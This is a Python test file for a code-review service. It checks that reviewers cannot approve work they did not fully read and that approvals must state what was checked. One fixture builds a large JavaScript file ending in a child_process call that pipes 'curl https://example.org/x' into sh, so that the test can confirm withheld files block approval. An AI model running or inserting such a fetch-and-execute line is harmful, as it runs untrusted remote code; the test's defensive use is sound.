"""U-04: unread bytes cannot be approved, and an approval states what was checked."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator

import pytest

from tests.use.reviewing import FINDING, KINDS, POLICIES, House, houses
from tests.use.served import DOORS, HTTP

pytestmark = pytest.mark.door("http", "mcp", policy=("chains", "peer", "solo", "team"))

DOTS = "." * 40


@pytest.fixture(scope="module")
def all_houses(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, House]]:
    with houses(tmp_path_factory.mktemp("u04")) as found:
        yield found


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize("policy", POLICIES)
def test_an_unread_report_is_refused_with_the_call_to_make(
    all_houses: dict[str, House], policy: str, door: str
) -> None:
    """U-04: in every style, for a yes and for a no; after reading, the same report counts."""
    house = all_houses[policy]
    review = house.open()
    for verdict in ("approve", "reject"):
        no = house.report(door, review, reads=False, **house.approval(verdict=verdict, summary="It does all harm."))
        assert (no.is_ok, no.code) == (False, "unread"), no.text
        assert "read_work" in no.text
    assert house.reports(review) == []
    yes = house.report(door, review, **house.approval())
    assert yes.is_ok, yes.text
    assert [one["verdict"] for one in house.reports(review)] == ["approve"]


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.door("http", "mcp", policy="solo")
def test_whoever_read_the_version_before_has_not_read_this_one(all_houses: dict[str, House], door: str) -> None:
    """U-04: what was served is the digest, not the review; an earlier report is kept only after reading, too."""
    house = all_houses["solo"]
    review = house.open()
    found = {"severity": "important", "text": "It is rude.", "evidence": "Be kind."}
    said = house.report(door, review, revision=1, verdict="concerns", findings=[found])
    assert said.is_ok, said.text
    finding = next(
        one["finding"]
        for one in house.author.call("read_review", review=review)["review"]["findings"]
        if one["raiser"] == "ann"
    )
    files = [{"path": "a.md", "text": f"# Rules\nBe kind, {review}.\n"}]
    answers = [{"finding": finding, "text": "It is kind now."}]
    assert house.author.call("revise", review=review, files=files, answers=answers).is_ok
    settled = [{"finding": finding, "resolved": True}]
    stale = house.report(door, review, reads=False, **house.approval(revision=2, settled=settled))
    assert stale.code == "stale", stale.text
    who = house.reviewer.at(door).unread()
    assert who.call("settle_finding", review=review, finding=finding, revision=2, resolved=True).code == "stale"
    assert house.report(door, review, **house.approval(revision=2, settled=settled)).is_ok


@pytest.mark.door("http", policy="solo")
def test_a_glance_and_a_page_that_is_cut_are_no_reading(all_houses: dict[str, House]) -> None:
    """U-04: only what was given whole counts."""
    house = all_houses["solo"]
    review = house.open()
    shown = house.reviewer.call("read_work", review=review, glance="true")
    assert shown.is_ok, shown.text
    assert house.report(HTTP, review, reads=False, **house.approval()).code == "unread"


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize("policy", POLICIES)
def test_an_approval_says_in_words_what_was_checked(all_houses: dict[str, House], policy: str, door: str) -> None:
    """U-04: neither silence nor dots are evidence, and a short name of a file is as good as a long one."""
    house = all_houses[policy]
    for evidence in (
        [],
        [{"what": DOTS, "why": DOTS}],
        [{"what": "the whole work", "why": DOTS}],
        [{"what": "a.md", "why": "ok"}],
        [{"what": "the engine", "why": "it runs very smoothly"}],
        *([{"what": one, "why": one}] for one in ("Fully fine to me", "every word ok", "All of it lgtm")),
        [{"what": "everything", "why": "each and every complete thing is fully fine"}],
    ):
        no = house.report(door, house.open(), **house.approval(evidence=evidence))
        assert no.code == "evidence_missing", (evidence, no.text)
        assert "hello.py" in no.text, "the refusal names what can be named"
        assert "the whole work" in no.text
        assert "3 different words" in no.text, "a rule that is not told is none"
    hollow = house.report(door, house.open(), **house.approval(evidence=[], summary="Fully fine, every word of it."))
    assert hollow.code == "evidence_missing", hollow.text
    for what, why in (
        ("a.md", "read all of it"),
        ("hello.py", "read all of it"),
        ("Rules", "die Regel ist freundlich"),
        ("the whole work", "每一行都检查过了"),
        ("all of the files", "they do what the title says"),
        ("hello.py: every line of it", "each prints what it says"),
    ):
        yes = house.report(door, house.open(), **house.approval(evidence=[{"what": what, "why": why}]))
        assert yes.is_ok, (what, yes.text)


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.door("http", "mcp", policy="peer")
def test_the_calls_of_the_source_systems_need_a_reading_and_words_too(all_houses: dict[str, House], door: str) -> None:
    """U-04: seed 001 says it in `feedback.overall`; `get_review` is its reading."""
    house = all_houses["peer"]
    who = house.reviewer.at(door)
    review = house.open()
    checklist = {one["name"]: True for one in house.approval()["checklist"]}
    said = {"reviewId": review, "status": "APPROVED", "checklist": checklist, "confidence": 95}
    good = {"overall": "Solid implementation!", "question_answers": []}
    unread = who.call("submit_review", **said, feedback=good)
    assert unread.code == "unread", unread.text
    assert who.call("get_review", reviewId=review).is_ok
    silent = who.call("submit_review", **said, feedback={"overall": ""})
    assert silent.code == "evidence_missing", silent.text
    assert who.call("submit_review", **said, feedback=good)["success"] is True


@pytest.mark.door("mcp", policy="solo")
def test_the_rule_is_told_where_reviewers_meet_it(all_houses: dict[str, House]) -> None:
    """U-04: the description of the tool says what evidence is."""
    answer = all_houses["solo"].reviewer.raw(
        "POST",
        "/mcp?tools=all",
        b'{"jsonrpc":"2.0","id":1,"method":"tools/list","params":{}}',
        **{"accept": "application/json, text/event-stream", "mcp-protocol-version": "2025-06-18"},
    )
    assert b"the whole work" in answer.body
    assert b"3 different words" in answer.body


@pytest.mark.door("http", policy="peer")
def test_a_head_is_no_reading(all_houses: dict[str, House]) -> None:
    """U-04: it is answered without a body, so nobody has read anything by it."""
    house = all_houses["peer"]
    review = house.open()
    for path in (f"/api/v1/reviews/{review}/work", f"/api/v1/peer/get_review?reviewId={review}"):
        head = house.reviewer.raw("HEAD", path)
        assert (head.status, head.headers["allow"]) == (405, "GET"), path
    assert house.report(HTTP, review, reads=False, **house.approval()).code == "unread"


#: Larger than the search for secrets allows, so it is served only to a signed-in human.
UNSEARCHED = b"let a = 1;\n" * 400_000 + b"require('child_process').exec('curl https://example.org/x | sh');\n"


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize("policy", POLICIES)
def test_nobody_approves_a_file_that_was_withheld_from_them(
    all_houses: dict[str, House], policy: str, door: str
) -> None:
    """U-04, U-51: what is withheld for the secrets it may hold was not read; an objection needs no more."""
    house = all_houses[policy]
    content = UNSEARCHED + f"// {policy} {door}\n".encode()
    digest = hashlib.sha256(content).hexdigest()
    assert house.author.raw("PUT", f"/api/v1/blobs/{digest}", content).status == 201
    files = [{"path": "a.md", "text": "# Rules\n"}, {"path": "big.js", "digest": digest}]
    review = house.author.call("open_review", kind=KINDS[policy], title="Grow", files=files)["review"]
    work = house.reviewer.at(door).call("read_work", review=review)
    assert next(one["text"] for one in work["files"] if one["path"] == "big.js").startswith("[withheld: ")
    no = house.report(door, review, **house.approval())
    assert (no.is_ok, no.code) == (False, "unread"), no.text
    assert "You were not given big.js" in no.text
    assert house.reports(review) == []
    found = {**FINDING, "place": {"path": "big.js", "start": 1}}
    against = house.report(door, review, **house.approval(verdict="concerns", findings=[found], summary="Too big."))
    assert against.is_ok, against.text
    human = house.served.human.call("read_work", review=review)
    assert "curl https" in next(one["text"] for one in human["files"] if one["path"] == "big.js")
